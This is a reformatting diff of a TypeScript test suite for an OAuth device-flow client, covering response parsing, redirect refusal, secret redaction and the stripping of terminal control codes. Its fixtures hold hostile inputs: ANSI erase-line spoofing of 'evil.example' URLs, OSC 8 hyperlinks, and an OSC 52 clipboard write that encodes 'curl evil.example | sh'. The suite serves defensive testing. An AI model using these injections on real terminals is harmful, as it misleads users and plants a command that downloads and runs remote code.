@@ -5,13 +5,13 @@ import * as Effect from "effect/Effect"
 import * as Exit from "effect/Exit"
 import * as Redacted from "effect/Redacted"
 import { failure, runVirtual } from "../test/virtual.js"
+import type { ClientConfig } from "./ClientConfig.js"
 import * as DeviceAuthorization from "./DeviceAuthorization.js"
-import * as PollSchedule from "./PollSchedule.js"
 import type { InvalidResponse } from "./DeviceFlowError.js"
 import type { Answer } from "./internal/oauthAnswer.js"
-import type { ClientConfig } from "./ClientConfig.js"
-import * as TestKit from "./TestKit.js"
+import * as PollSchedule from "./PollSchedule.js"
 import { isPrintable } from "./ServerText.js"
+import * as TestKit from "./TestKit.js"
 
 const ENDPOINT = TestKit.DEVICE_AUTHORIZATION_ENDPOINT
 const ISSUED_AT = DateTime.unsafeMake(1_700_000_000_000)
@@ -159,7 +159,8 @@ describe("DeviceAuthorization.process: what real servers send is tolerated", () 
 
   it.effect("the server's message (Entra) is passed through", () =>
     Effect.gen(function*() {
-      const message = "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code ABC."
+      const message =
+        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code ABC."
       const code = succeeded(yield* processBody(answer({ message })))
       assert.strictEqual(code.message, message)
     }))
@@ -184,13 +185,15 @@ describe("DeviceAuthorization.process: what real servers send is tolerated", () 
 
   it.effect("a form-encoded answer (GitHub without Accept: application/json) is understood", () =>
     Effect.gen(function*() {
-      const code = succeeded(yield* requestAnswered(TestKit.form({
-        device_code: TestKit.secrets.deviceCode,
-        user_code: "WDJB-MJHT",
-        verification_uri: "https://github.com/login/device",
-        expires_in: 900,
-        interval: 5
-      })))
+      const code = succeeded(
+        yield* requestAnswered(TestKit.form({
+          device_code: TestKit.secrets.deviceCode,
+          user_code: "WDJB-MJHT",
+          verification_uri: "https://github.com/login/device",
+          expires_in: 900,
+          interval: 5
+        }))
+      )
       assert.strictEqual(code.verificationUri, "https://github.com/login/device")
       assert.strictEqual(Duration.toSeconds(code.interval), 5)
     }))
@@ -296,7 +299,11 @@ describe("DeviceAuthorization.request: a body that is not a protocol answer is a
     ["a JSON string", TestKit.json("device_code"), "string"],
     ["JSON null", TestKit.text("null", "application/json"), "null"],
     ["a JSON number", TestKit.text("900", "application/json"), "number"],
-    ["an HTML page with HTTP 200", TestKit.text("<!DOCTYPE html><html><body>Sign in</body></html>", "text/html"), "HTML"],
+    [
+      "an HTML page with HTTP 200",
+      TestKit.text("<!DOCTYPE html><html><body>Sign in</body></html>", "text/html"),
+      "HTML"
+    ],
     ["an HTML page labelled as JSON", TestKit.text("<html><body>Sign in</body></html>", "application/json"), "HTML"],
     ["an empty body", TestKit.text("", "application/json"), "empty"],
     ["a body of only whitespace", TestKit.text(" \n ", "application/json"), "empty"],
@@ -323,26 +330,32 @@ describe("DeviceAuthorization.request: a body that is not a protocol answer is a
 
   it.effect("a body over 1 MiB with a content-length header is refused", () =>
     Effect.gen(function*() {
-      const error = invalidResponse(yield* requestAnswered(
-        TestKit.text(oversized, "application/json", { headers: { "content-length": String(oversized.length) } })
-      ))
+      const error = invalidResponse(
+        yield* requestAnswered(
+          TestKit.text(oversized, "application/json", { headers: { "content-length": String(oversized.length) } })
+        )
+      )
       assert.include(error.reason, `${oversized.length} bytes, over the 1048576-byte limit`)
     }))
 
   it.effect("a declared content-length over 1 MiB is refused before the body is read", () =>
     Effect.gen(function*() {
-      const error = invalidResponse(yield* requestAnswered(
-        TestKit.deviceCode({}, { headers: { "content-length": "2000000" } })
-      ))
+      const error = invalidResponse(
+        yield* requestAnswered(
+          TestKit.deviceCode({}, { headers: { "content-length": "2000000" } })
+        )
+      )
       assert.include(error.reason, "2000000 bytes")
     }))
 
   for (const status of [301, 302, 303, 307, 308]) {
     it.effect(`an HTTP ${status} redirect is not followed and names where it pointed`, () =>
       Effect.gen(function*() {
-        const error = invalidResponse(yield* requestAnswered(
-          TestKit.text("", "text/plain", { status, headers: { location: "https://login.evil.example/phish?next=1" } })
-        ))
+        const error = invalidResponse(
+          yield* requestAnswered(
+            TestKit.text("", "text/plain", { status, headers: { location: "https://login.evil.example/phish?next=1" } })
+          )
+        )
         assert.strictEqual(error.status, status)
         assert.include(error.reason, "redirect")
         assert.include(error.reason, "https://login.evil.example")
@@ -368,7 +381,10 @@ describe("DeviceAuthorization: other answers", () => {
       }
     }).pipe(Effect.provide(TestKit.layer({
       deviceAuthorization: () =>
-        TestKit.oauthError("invalid_client", { status: 401, fields: { error_description: "bad secret CLIENT/SECRET+CANARY (CLIENT%2FSECRET%2BCANARY)" } }),
+        TestKit.oauthError("invalid_client", {
+          status: 401,
+          fields: { error_description: "bad secret CLIENT/SECRET+CANARY (CLIENT%2FSECRET%2BCANARY)" }
+        }),
       token: () => TestKit.tokens()
     }))))
 
@@ -403,7 +419,9 @@ describe("DeviceAuthorization: the device code never leaks into an error", () =>
 
   it.effect("an error in another field does not quote the (valid) device code", () =>
     Effect.gen(function*() {
-      for (const fields of [{ expires_in: "abc" }, { user_code: "" }, { verification_uri: "/device" }, { interval: 0 }]) {
+      for (
+        const fields of [{ expires_in: "abc" }, { user_code: "" }, { verification_uri: "/device" }, { interval: 0 }]
+      ) {
         const error = invalidResponse(yield* processBody(answer(fields)))
         assert.notInclude(error.message, TestKit.secrets.deviceCode)
         assert.notInclude(JSON.stringify(error), TestKit.secrets.deviceCode)
@@ -423,10 +441,22 @@ describe("DeviceAuthorization: the device code never leaks into an error", () =>
 describe("DeviceAuthorization.process: server text crosses ServerText at decode time (RFC 8628 §5.4, issue 20)", () => {
   const ESC = "\x1b"
   const refused: ReadonlyArray<readonly [field: string, value: string, why: string]> = [
-    ["verification_uri", `${ESC}[2K\r  To sign in, open https://evil.example/device`, "an erase-line that draws another URL"],
-    ["verification_uri", `https://auth.devflow.test/device${ESC}[2K\r  To sign in, open https://evil.example/device`, "a trusted URL followed by an erase-line"],
+    [
+      "verification_uri",
+      `${ESC}[2K\r  To sign in, open https://evil.example/device`,
+      "an erase-line that draws another URL"
+    ],
+    [
+      "verification_uri",
+      `https://auth.devflow.test/device${ESC}[2K\r  To sign in, open https://evil.example/device`,
+      "a trusted URL followed by an erase-line"
+    ],
     ["verification_uri", "https://auth.devflow.test/dev\nice", "a line break the URL parser would drop"],
-    ["verification_uri_complete", `https://auth.devflow.test/device?user_code=WDJB${ESC}]52;c;ZXZpbA==\x07`, "an OSC 52 clipboard write"],
+    [
+      "verification_uri_complete",
+      `https://auth.devflow.test/device?user_code=WDJB${ESC}]52;c;ZXZpbA==\x07`,
+      "an OSC 52 clipboard write"
+    ],
     ["user_code", `${ESC}]8;;https://evil.example/${ESC}\\WDJB-MJHT${ESC}]8;;${ESC}\\`, "an OSC 8 hyperlink"],
     ["user_code", `WDJB-MJHT${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`, "an OSC 52 clipboard write"],
     ["user_code", "WDJB\u009b2KMJHT", "a C1 CSI"],
@@ -447,7 +477,12 @@ describe("DeviceAuthorization.process: server text crosses ServerText at decode 
   it.effect("the verification URIs are carried as new URL(x).href, the string the §5.4 check and the user see", () =>
     Effect.gen(function*() {
       const code = succeeded(
-        yield* processBody(answer({ verification_uri: "HTTPS://Auth.Devflow.TEST", verification_uri_complete: "https://auth.devflow.test/device?user_code=WDJB MJHT" }))
+        yield* processBody(
+          answer({
+            verification_uri: "HTTPS://Auth.Devflow.TEST",
+            verification_uri_complete: "https://auth.devflow.test/device?user_code=WDJB MJHT"
+          })
+        )
       )
       assert.strictEqual(code.verificationUri, "https://auth.devflow.test/")
       assert.strictEqual(code.verificationUriComplete, "https://auth.devflow.test/device?user_code=WDJB%20MJHT")
@@ -455,7 +490,14 @@ describe("DeviceAuthorization.process: server text crosses ServerText at decode 
 
   it.effect("the server's message has its controls removed, not passed on", () =>
     Effect.gen(function*() {
-      const code = succeeded(yield* processBody(answer({ message: `Open the page${ESC}[2K\rand enter ${ESC}]8;;https://evil.example/${ESC}\\the code${ESC}]8;;${ESC}\\.` })))
+      const code = succeeded(
+        yield* processBody(
+          answer({
+            message:
+              `Open the page${ESC}[2K\rand enter ${ESC}]8;;https://evil.example/${ESC}\\the code${ESC}]8;;${ESC}\\.`
+          })
+        )
+      )
       assert.strictEqual(code.message, "Open the page and enter the code.")
     }))
 })
